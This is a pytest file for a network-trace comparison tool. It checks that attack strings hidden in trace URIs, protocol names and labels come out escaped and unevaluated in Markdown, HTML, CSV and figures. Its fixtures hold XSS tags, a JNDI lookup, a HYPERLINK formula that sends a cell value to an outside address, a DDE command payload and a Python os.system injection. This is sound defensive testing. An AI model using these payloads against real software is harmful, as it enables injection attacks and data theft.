"""A report about an attack must not become one: strings from traces and config are shown as text.

A trace whose URIs, protocol names and label carry script tags, JNDI lookups, spreadsheet
formulas, pipes and mathtext goes through every stage; the Markdown, the CSV and the figures
show those strings as text, and nothing from the trace is ever evaluated.
"""

from __future__ import annotations

import csv
import html
import re

import matplotlib
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from matplotlib.figure import Figure
from matplotlib.text import Text

from tracelab.compare.traces import compare_traces
from tracelab.core.html import SCRIPT_ELEMENT
from tracelab.core.safe_text import (
    figure_text,
    markdown_cell,
    spreadsheet_safe,
    spreadsheet_safe_array,
)
from tracelab.features.summary import trace_features
from tracelab.ingest.normalize import normalize_trace
from tracelab.ingest.validate import validate_trace

SCRIPT = "<script>alert(1)</script>"
JNDI_IMG = "${jndi:ldap://x/<img src=x onerror=alert(1)>}"
FORMULA = '=HYPERLINK("http://198.18.0.9/?"&A1,"open")'
ATTACK_STRINGS = [SCRIPT, JNDI_IMG, FORMULA, "a | b || c", "$\\frac{1}{0}$ and $x$", "`code`",
                  "[link](javascript:alert(1))", "**bold** _it_ ~~gone~~", "@SUM(1+1)", "-2+3",
                  "+cmd", "\tTAB", "line\nbreak", "&amp; &lt;"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
LABELS = {"attack": f"{FORMULA} {SCRIPT} | $x$", "normal": "+normal $\\alpha$ <b>web</b>"}
# Protocol names come straight from the export's Protocol column.
ATTACK_PROTOCOLS = ["=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "$x$", "a|b"]


def _export(rows) -> bytes:
    header = ["No.", "Time", "Source", "Destination", "Protocol", "Length", "Info"]
    lines = [",".join('"' + str(v).replace('"', '""') + '"' for v in row)
             for row in [header, *rows]]
    return ("\n".join(lines) + "\n").encode()


def _attack_rows(sentinel) -> list[list]:
    uris = [f"/{SCRIPT}", f"/?x={JNDI_IMG.replace(' ', '%20')}", f"/{FORMULA}", "/a|b",
            "/$math$", f"/__import__('os').system('touch%20{sentinel}')", "/{{7*7}}",
            "/%(x)s%s%n", "/${env:HOME}"]
    rows = []
    for i, uri in enumerate(uris * 3):
        rows.append(["HTTP", f"GET {uri} HTTP/1.1 "])
        rows.append([ATTACK_PROTOCOLS[i % len(ATTACK_PROTOCOLS)],
                     f"__import__('os').system('touch {sentinel}') {JNDI_IMG}"])
    rows += [[ATTACK_PROTOCOLS[0], "x"]] * 60  # the most frequent protocol: first in its cell
    return [[n, f"2026-11-28 07:56:30.{n * 1000:06d}", "198.18.0.2", f"198.18.1.{n % 200}",
             protocol, 120, info] for n, (protocol, info) in enumerate(rows, start=1)]


def _normal_rows() -> list[list]:
    return [[n, f"2026-11-28 07:57:00.{n * 500:06d}", "198.18.0.3", "198.18.16.1", "TCP", 66,
             f"{40000 + n}  >  80 [ACK] Seq=1 Ack=1 Win=502 Len=0"] for n in range(1, 200)]


@pytest.fixture(scope="module")
def compared(tmp_path_factory):
    """Both traces through validation, normalization, features and comparison."""
    root = tmp_path_factory.mktemp("safe")
    sentinel = root / "EVALUATED"
    sources = {"attack": _export(_attack_rows(sentinel)), "normal": _export(_normal_rows())}
    for trace, data in sources.items():
        source = root / f"{trace}.csv"
        source.write_bytes(data)
        validate_trace(trace=trace, source=source, source_format="wireshark_csv",
                       staged_path=root / f"{trace}.staged.arrow",
                       report_path=root / f"{trace}.json", invalid_path=root / f"{trace}.inv.csv")
        normalize_trace(trace=trace, staged_path=root / f"{trace}.staged.arrow", source=source,
                        source_format="wireshark_csv", packets_path=root / f"{trace}.parquet")
        trace_features(trace=trace, packets_path=root / f"{trace}.parquet",
                       summary_path=root / f"{trace}.summary.json",
                       distributions_path=root / f"{trace}.dist.parquet")

    figure_texts: list[str] = []
    original_savefig = Figure.savefig

    def recording_savefig(figure, *args, **kwargs):
        figure_texts.extend(t.get_text() for t in figure.findobj(Text) if t.get_text())
        return original_savefig(figure, *args, **kwargs)

    outputs = {name: root / "compare" / name for name in
               ("summary.csv", "summary.md", "summary.html", "iat.png", "length.png",
                "protocols.png", "rate.png", "destinations.png")}
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Figure, "savefig", recording_savefig)
        compare_traces(traces=list(sources), labels=LABELS,
                       summary_paths=[root / f"{t}.summary.json" for t in sources],
                       distribution_paths=[root / f"{t}.dist.parquet" for t in sources],
                       table_path=outputs["summary.csv"], markdown_path=outputs["summary.md"],
                       html_path=outputs["summary.html"],
                       iat_cdf_path=outputs["iat.png"], length_cdf_path=outputs["length.png"],
                       protocols_path=outputs["protocols.png"], rate_path=outputs["rate.png"],
                       destinations_path=outputs["destinations.png"])
    return {"root": root, "sentinel": sentinel, "outputs": outputs, "texts": figure_texts}


def test_nothing_from_the_trace_is_evaluated(compared):
    assert not compared["sentinel"].exists()
    packets = pq.read_table(compared["root"] / "attack.parquet")
    uris = set(packets.column("http_uri").drop_null().to_pylist())
    assert {f"/{SCRIPT}", "/{{7*7}}", "/%(x)s%s%n", "/${env:HOME}", f"/{FORMULA}"} <= uris
    assert any("__import__" in info for info in packets.column("info").to_pylist())
    assert set(ATTACK_PROTOCOLS) <= set(packets.column("protocol").cast(pa.string()).to_pylist())


def test_markdown_shows_labels_and_protocols_as_text(compared):
    markdown = compared["outputs"]["summary.md"].read_text()
    assert "<" not in markdown and ">" not in markdown  # no tag of any kind survives
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markdown
    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown
    assert not re.search(r"(?<!\\)[$`]", markdown), "unescaped math or code delimiters"
    rows = [line for line in markdown.splitlines() if line.startswith("|")]
    delimiters = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}
    assert len(delimiters) == 1, "a pipe from the data split a table cell"
    assert markdown_cell(LABELS["attack"]) in markdown


def test_html_shows_labels_and_protocols_as_text(compared):
    page = compared["outputs"]["summary.html"].read_text()
    assert "<script" not in page.replace(SCRIPT_ELEMENT, "") and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert html.escape(LABELS["attack"]) in page


def test_csv_neutralizes_formulas_in_text_columns(compared):
    with open(compared["outputs"]["summary.csv"], newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    by_trace = {row["trace"]: row for row in table}
    assert by_trace["attack"]["label"] == "'" + LABELS["attack"]
    assert by_trace["normal"]["label"] == "'" + LABELS["normal"]
    assert by_trace["attack"]["protocol_counts"].startswith("'=cmd|")
    for row in table:
        for column in ("trace", "label", "protocol_counts", "first_ts", "last_ts"):
            assert not row[column].startswith(FORMULA_START), (column, row[column])
    # Numbers stay numbers.
    assert float(by_trace["attack"]["packets"]) > 0


def test_figures_show_labels_and_protocols_as_text(compared):
    texts = compared["texts"]
    assert texts, "no figure text recorded"
    renderer = Text()
    shown = []
    for text in texts:
        displayed, is_math = renderer._preprocess_math(text)
        assert is_math is False, f"mathtext from the data: {text!r}"
        shown.append(displayed)
    # Labels show exactly as written: no stray escapes (no string here contains a `\$`).
    assert not [text for text in shown if "\\$" in text]
    assert f"attack ({LABELS['attack']})" in shown
    assert f"normal ({LABELS['normal']})" in shown
    assert set(ATTACK_PROTOCOLS) <= set(shown)
    for name, path in compared["outputs"].items():
        if name.endswith(".png"):
            assert path.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# --- The escaping functions themselves ----------------------------------------------------

@pytest.mark.parametrize("value", ATTACK_STRINGS)
def test_markdown_cell_escapes_every_attack_string(value):
    cell = markdown_cell(value)
    assert "<" not in cell and ">" not in cell and "\n" not in cell
    assert not re.search(r"(?<!\\)[|$`*_\[\]~]", cell.replace("\\\\", "")), cell


def test_spreadsheet_safe_touches_text_cells_only():
    frame = pd.DataFrame({"label": ATTACK_STRINGS, "number": range(-len(ATTACK_STRINGS), 0)})
    safe = spreadsheet_safe(frame)
    for original, cell in zip(ATTACK_STRINGS, safe["label"]):
        assert cell == ("'" + original if original.startswith(FORMULA_START) else original)
    assert safe["number"].tolist() == frame["number"].tolist()
    arrow = spreadsheet_safe_array(pa.array(ATTACK_STRINGS + [None]))
    assert arrow.to_pylist() == safe["label"].tolist() + [None]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_figure_text_is_never_mathtext_and_escaping_twice_changes_nothing(value):
    escaped = figure_text(value)
    assert not matplotlib.cbook.is_math_text(escaped)
    assert figure_text(escaped) == escaped
    # What is shown is what was written, except that an escaped `\$` already in the data shows
    # as `$`.
    assert Text()._preprocess_math(escaped)[0] == value.replace("\\$", "$")


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_markdown_cell_of_any_text_is_one_inert_cell(value):
    cell = markdown_cell(value)
    assert "<" not in cell and "\n" not in cell and "\r" not in cell
    assert not re.search(r"(?<!\\)[|$`]", cell.replace("\\\\", ""))
